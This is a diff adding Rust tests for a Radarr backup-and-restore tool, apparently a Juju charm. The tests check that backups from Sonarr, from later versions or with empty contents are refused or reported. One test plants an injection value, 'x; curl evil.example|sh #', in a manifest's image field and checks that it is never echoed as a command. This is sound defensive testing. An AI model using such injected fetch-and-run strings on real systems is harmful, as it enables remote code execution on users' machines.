@@ -145,7 +145,12 @@ fn a_backup_of_a_later_app_is_refused_before_anything_is_stopped_and_taken_by_fo
             220,
             "it is of Radarr 6.2.0.1 (radarr.db has schema 220, here 218), and this one is Radarr 6.1.1.10360-ls299",
         ),
-        (None, 220, "its radarr.db has schema 220, and Radarr has 218 here"),
+        // The images have tags.
+        (
+            None,
+            220,
+            "it is of Radarr 6.2.0 (radarr.db has schema 220, here 218)",
+        ),
         (Some("6.1.1.10360-ls300"), 220, "its radarr.db has schema 220"),
     ] {
         let mut unit = settled();
@@ -206,6 +211,70 @@ fn an_earlier_app_is_migrated_and_that_is_said() {
         notes.contains("is not known: the backup says nothing of its app"),
         "{notes}"
     );
+}
+
+/// Each has a config.xml of one form, and would start healthy and empty on the other's.
+#[test]
+fn the_backup_of_another_app_is_refused_by_its_name_and_by_its_databases() {
+    let foreign = |unit: &mut Unit, about: &[(&str, &str)]| {
+        with_backup(unit, None, 218, 9);
+        unit.recovery.backups = Some(vec![good("bbbb-1", "sonarr")]);
+        let about = about.iter();
+        unit.recovery.about = about
+            .map(|(key, value)| ((*key).to_owned(), (*value).to_owned()))
+            .collect();
+        unit.recovery.content = Some(Box::new(|folder| {
+            std::fs::write(folder.join("config.xml"), config("Theme")).unwrap();
+            std::fs::write(folder.join("sonarr.db"), "").unwrap();
+        }));
+    };
+    let asked = json!({"backup-uid": "bbbb-1", "from-app": "sonarr"});
+    let mut unit = settled();
+    foreign(
+        &mut unit,
+        &[
+            ("app", "sonarr"),
+            ("version", "4.0.17"),
+            ("image", "lscr.io/linuxserver/sonarr:4.0.17"),
+        ],
+    );
+    let message = unit.act("restore-from-backup", asked.clone()).unwrap_err();
+    assert!(
+        message.contains("it is a backup of sonarr, and this app is Radarr"),
+        "{message}"
+    );
+    assert!(!message.contains("juju refresh"), "{message}");
+    foreign(&mut unit, &[]);
+    let message = unit.act("restore-from-backup", asked).unwrap_err();
+    assert!(
+        message.contains("it holds none of the databases of Radarr"),
+        "{message}"
+    );
+    assert!(unit.runs());
+}
+
+/// What a person pastes into a shell is never a stranger's.
+#[test]
+fn a_hostile_manifest_is_shown_as_no_command_and_breaks_no_hook() {
+    let mut unit = settled();
+    with_backup(&mut unit, Some("6.2.0"), 220, 9);
+    for number in 0..900 {
+        let (key, value) = (format!("key-{number}"), "x".repeat(400));
+        unit.recovery.about.insert(key, value);
+    }
+    let image = "x; curl evil.example|sh #".to_owned();
+    unit.recovery.about.insert("image".to_owned(), image);
+    let message = unit.act("restore-from-backup", latest()).unwrap_err();
+    assert!(
+        message.contains("--resource radarr-image=IMAGE, then"),
+        "{message}"
+    );
+    let verified = unit.act("verify-backup", json!({})).unwrap();
+    assert!(!format!("{verified:?}").contains("evil"), "{verified:?}");
+    unit.run(Event::UpdateStatus);
+    assert!(unit.status().starts_with("active"), "{}", unit.status());
+    let kept = format!("{:?}", unit.state.model());
+    assert!(!kept.contains("key-1") && kept.contains("6.2.0"), "{kept}");
 }
 
 /// Radarr would go on asking with the old key, and nobody would know why nothing comes.
@@ -316,6 +385,19 @@ fn a_latest_backup_that_has_collapsed_is_said_and_not_deployed_by_itself() {
         let unit = deployed(option, backups, films);
         assert!(unit.runs(), "{option} {films}: {}", unit.status());
     }
+
+    // Who restores by hand is told, and nothing is refused: somebody is there.
+    let mut unit = settled();
+    with_backup(&mut unit, Some("6.1.1"), 218, 0);
+    unit.act("verify-backup", json!({})).unwrap();
+    let results = unit.act("restore-from-backup", latest()).unwrap();
+    let empty = "holds nothing that counts in Radarr";
+    assert!(
+        unit.logs.iter().any(|line| line.contains(empty)),
+        "{:?}",
+        unit.logs
+    );
+    assert!(results["notes"].as_str().unwrap().contains(empty), "{results:?}");
 
     let mut unit = settled();
     with_backup(&mut unit, Some("6.1.1"), 218, 9);
